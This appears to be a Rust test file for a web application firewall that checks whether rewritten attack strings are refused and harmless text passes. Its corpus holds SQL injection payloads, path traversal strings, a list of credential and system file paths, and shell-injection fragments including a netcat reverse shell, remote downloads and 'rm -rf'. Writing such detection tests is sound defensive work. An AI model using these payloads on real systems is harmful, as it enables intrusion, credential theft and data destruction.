//! Known attacks written in every way that means the same: each has to be found.
#![expect(clippy::expect_used, reason = "a test may stop where it stands")]

#[path = "corpus/rewrites.rs"]
mod rewrites;

use rewrites::Rewritten;
use waf::{Part, Place, Plan, RequestFacts, RuleFiles, Settings};

const SQL: [&str; 28] = [
    "1 union select 1,2,3",
    "5 union select login,pin",
    "5 union all select login,pin from users",
    "-1 union select null,null",
    "1 union select @@version",
    "1 union select",
    "1' union select password from users--",
    "1 union select table_name from information_schema.tables",
    "1 or 1=1",
    "' or 'a'='a",
    "admin' or 1=1--",
    "1 or exists(select * from users)",
    "1; drop table users",
    "1; delete from orders where 1=1",
    "1'; update users set admin=1--",
    "1; insert into users values (1,2)",
    "1; exec xp_cmdshell('dir')",
    "1 and sleep(5)",
    "1'; waitfor delay '0:0:5'--",
    "1 and (select count(*) from users)>0",
    "1 and ascii(substring((select database()),1,1))>64",
    "1' and extractvalue(1,concat(0x7e,version()))--",
    "1 and 1 in (select 1)",
    "1 rlike (select 1)",
    "1 order by 5--",
    "1 group by id having 1=1",
    "1 procedure analyse()",
    "select * from users",
];
const PATHS: [&str; 8] = [
    "../../../../etc/passwd",
    "../../etc/shadow",
    "../../../windows/win.ini",
    "../../../../boot.ini",
    "../../app/config.yml",
    "../../../proc/self/environ",
    "../../.ssh/id_rsa",
    "../../web-inf/web.xml",
];
const FILES: [&str; 28] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/nginx/nginx.conf",
    "/etc/ssl/private/server.key",
    "/proc/self/environ",
    "/proc/1/cmdline",
    "/proc/sys/kernel/randomize_va_space",
    "/sys/class/net",
    "/root/.bash_history",
    "/var/log/auth.log",
    "/var/lib/mysql/mysql/user.myd",
    "/var/www/html/wp-config.php",
    "/var/spool/cron/root",
    "/usr/local/etc/php.ini",
    "/run/secrets/token",
    "/home/user/.aws/credentials",
    "/home/user/.ssh/authorized_keys",
    "/app/.git/config",
    "/app/.env",
    "/app/.docker/config.json",
    "/app/.kube/config",
    "/app/.netrc",
    "/config/database.yml",
    "/tmp/sess_abc123",
    "/var/adm/messages",
    "/opt/tomcat/conf/tomcat-users.xml",
    "/home/user/.config/gh/hosts.yml",
    "/srv/app/.terraform.lock.hcl",
];
const COMMANDS: [(&str, &str, &str); 12] = [
    ("; ", "cat", "/etc/passwd"),
    ("| ", "cat", "/etc/passwd"),
    ("&& ", "wget", "http://a.example/x"),
    ("; ", "ls", "-la /"),
    ("; ", "curl", "http://a.example/x -o /tmp/x"),
    ("; ", "nc", "-e /bin/sh 10.0.0.1 4444"),
    ("|| ", "ping", "-c 3 a.example"),
    ("; ", "rm", "-rf /tmp/x"),
    ("; ", "uname", "-a"),
    ("; ", "python", "-c 'import os'"),
    ("; ", "bash", "-i"),
    ("$(", "cat", "/etc/passwd)"),
];

fn plan() -> Plan {
    waf::compile(&Settings::default(), &RuleFiles::none()).expect("the default pack compiles")
}

fn is_refused(plan: &Plan, text: &str) -> bool {
    let parts = [Part::value(Place::Body, "/note", text.as_bytes())];
    waf::inspect(&parts, &RequestFacts::default(), plan, 0).refuse
}

fn all_are_found(rewritten: impl Iterator<Item = Rewritten>, at_least: usize) {
    let plan = plan();
    let all: Vec<Rewritten> = rewritten.collect();
    assert!(all.len() >= at_least, "{}", all.len());
    let missed: Vec<String> = all
        .iter()
        .filter(|(_, text)| !is_refused(&plan, text))
        .map(|(way, text)| format!("{way}: {text:?}"))
        .collect();
    assert!(
        missed.is_empty(),
        "{} of {}:\n{}",
        missed.len(),
        all.len(),
        missed.join("\n")
    );
}

#[test]
fn a_query_is_found_however_its_blanks_are_written() {
    all_are_found(SQL.iter().flat_map(|attack| rewrites::sql(attack)), 900);
}

#[test]
fn a_step_out_of_a_folder_is_found_however_it_is_encoded() {
    all_are_found(PATHS.iter().flat_map(|attack| rewrites::path(attack)), 200);
}

#[test]
fn a_file_of_the_system_is_found_by_its_name_alone() {
    all_are_found(FILES.iter().flat_map(|path| rewrites::file(path)), 100);
}

#[test]
fn a_command_is_found_however_a_shell_puts_it_together() {
    let all = COMMANDS
        .iter()
        .flat_map(|(mark, command, argument)| rewrites::shell(mark, command, argument));
    all_are_found(all, 200);
}

#[test]
fn what_merely_looks_rewritten_passes() {
    let plan = plan();
    for text in [
        "20\u{a0}% off; the union\u{a0}selects on Monday",
        "# Title\nselect the next one\n# End",
        "a -- b\nunion of pipes -- see the plan\n",
        "Paid # 4711\nSelect the other from the list",
        "C\u{3000}D",
        "/* the pump runs */ and the fan does not",
        "../plans/level_2.dwg",
        "/2026/11/boiler.jpg",
        "/work-orders/4711/photos/1.jpg",
        "/orders/[id]",
        "/.well-known/openid-configuration",
        "https://shop.example/.well-known/security.txt",
        "/home/anna/photo.jpg",
        "and/.or",
        "photos/img[1].jpg",
        "see /etc/hosts on your machine, then call us",
        "docker, npm; python and ssh",
        "If not defined otherwise, set the boiler to 60 °C",
    ] {
        assert!(!is_refused(&plan, text), "{text:?}");
    }
}
